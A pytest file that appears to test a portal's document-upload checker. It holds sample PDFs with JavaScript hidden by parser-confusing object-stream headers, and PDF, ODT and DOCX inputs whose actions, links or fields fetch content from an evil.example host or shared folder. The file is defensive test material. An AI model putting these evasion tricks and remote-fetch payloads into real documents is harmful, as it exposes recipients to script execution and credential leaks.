"""What a document hides from whoever checks it, and not from the program that opens it."""

import zlib

import pytest

from portal.files.contents import rules as contents
from portal.files.rules import Flaw, Unfit
from tests.documents import office, open_document, pdf

SCRIPT = zlib.compress(b"8 0 << /S /JavaScript /JS 4 0 R >>")
BIG = b"z" * 3000
HEADS = {
    "a line that ends as on an old Mac": b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\r",
    "a space of another kind": b"<< /Type /ObjStm /Filter /FlateDecode >>\x00stream\n",
    "keys after many others": b"<< /Type /ObjStm /Z /" + BIG + b" /Filter /FlateDecode >>\nstream\n",
    "keys before many others": b"<< /Filter /FlateDecode /Z /" + BIG + b" /Type /ObjStm >>\nstream\n",
    "a string that looks like the beginning": b"<< /Filter /FlateDecode /Z (9 0 obj) /Type /ObjStm >>\nstream\n",
    "a string that looks like the content": b"<< /Type /ObjStm /Z (>>stream\n) /Filter /FlateDecode >>\nstream\n",
    "a name that looks like the content": b"<< /Type /ObjStm /stream\n 1 /Filter /FlateDecode >>\nstream\n",
    "a comment that looks like the end": b"<< /Type /ObjStm % >>stream\n/Filter /FlateDecode >>\nstream\n",
}


def flaw_of(name: str, content: bytes) -> Flaw | None:
    try:
        contents.named(name, content)
    except Unfit as unfit:
        return unfit.flaw
    return None


@pytest.mark.parametrize("what", HEADS)
def test_a_script_packed_in_a_strange_way_is_found_or_the_file_refused(what: str) -> None:
    hidden = pdf(HEADS[what] + SCRIPT + b"\nendstream")
    assert flaw_of("a.pdf", hidden) in {Flaw.SCRIPT, Flaw.TOO_COMPLEX}


@pytest.mark.parametrize("action", ["GoToR", "GoToE", "ImportData", "Go#54oR"])
def test_a_pdf_that_opens_a_file_of_another_machine_is_refused(action: str) -> None:
    opened = pdf(b"<< /OpenAction << /S /%s /F (\\\\\\\\evil.example\\\\a) >> >>" % action.encode())
    assert flaw_of("a.pdf", opened) is Flaw.SCRIPT


@pytest.mark.parametrize("target", ["file://evil.example/a", "//evil.example/a", "\\\\evil.example\\a"])
@pytest.mark.parametrize("element", ["draw:image", "draw:plugin", "draw:fill-image", "draw:object"])
def test_nothing_of_an_open_document_comes_from_a_shared_folder(element: str, target: str) -> None:
    assert (
        flaw_of("a.odt", open_document("odt", None, f'<{element} xlink:href="{target}"/>'))
        is Flaw.FROM_OUTSIDE
    )


@pytest.mark.parametrize(
    "target", ["vnd.sun.star.script:a?language=Basic", "&#109;acro:///a", " .uno:Open", "JavaScript:a"]
)
@pytest.mark.parametrize("element", ["text:a", "draw:a", "draw:image"])
def test_no_link_of_an_open_document_starts_a_program(element: str, target: str) -> None:
    assert flaw_of("a.odt", open_document("odt", None, f'<{element} xlink:href="{target}"/>')) is Flaw.MACROS


@pytest.mark.parametrize(
    ("element", "target"),
    [
        ("text:a", "https://ptce.example/"),
        ("text:a", "file://serveur/commun/statuts.odt"),
        ("draw:image", "Pictures/1.png"),
        ("draw:image", "https://ptce.example/logo.png"),
        ("draw:image", "../photo.png"),
        ("draw:image", "file:///home/zoe/logo.png"),
    ],
)
def test_ordinary_links_and_images_are_taken(element: str, target: str) -> None:
    assert flaw_of("a.odt", open_document("odt", None, f'<{element} xlink:href="{target}"/>')) is None


@pytest.mark.parametrize(
    ("field", "flaw"),
    [
        ('INCLUDETEXT "https://evil.example/a.docx"', Flaw.FROM_OUTSIDE),
        ('includepicture "\\\\\\\\evil.example\\\\a.png"', Flaw.FROM_OUTSIDE),
        ("INCLUDEPICTURE file://evil.example/a.png", Flaw.FROM_OUTSIDE),
        (' INCLUDEPICTURE "https://ptce.example/logo.png" \\* MERGEFORMATINET ', None),
        (' INCLUDEPICTURE "C:\\\\Users\\\\Zoe\\\\logo.png" ', None),
    ],
)
@pytest.mark.parametrize("written", ["<d><instrText>{}</instrText></d>", "<d><fldSimple instr='{}'/></d>"])
def test_fields_of_word_fetch_no_text_and_nothing_from_a_shared_folder(
    written: str, field: str, flaw: Flaw | None
) -> None:
    assert flaw_of("a.docx", office("docx", content=written.format(field))) is flaw


def test_two_documents_in_one_are_none() -> None:
    both = open_document("odt", {"[Content_Types].xml": "<Types/>"})
    assert flaw_of("a.odt", both) is Flaw.DAMAGED
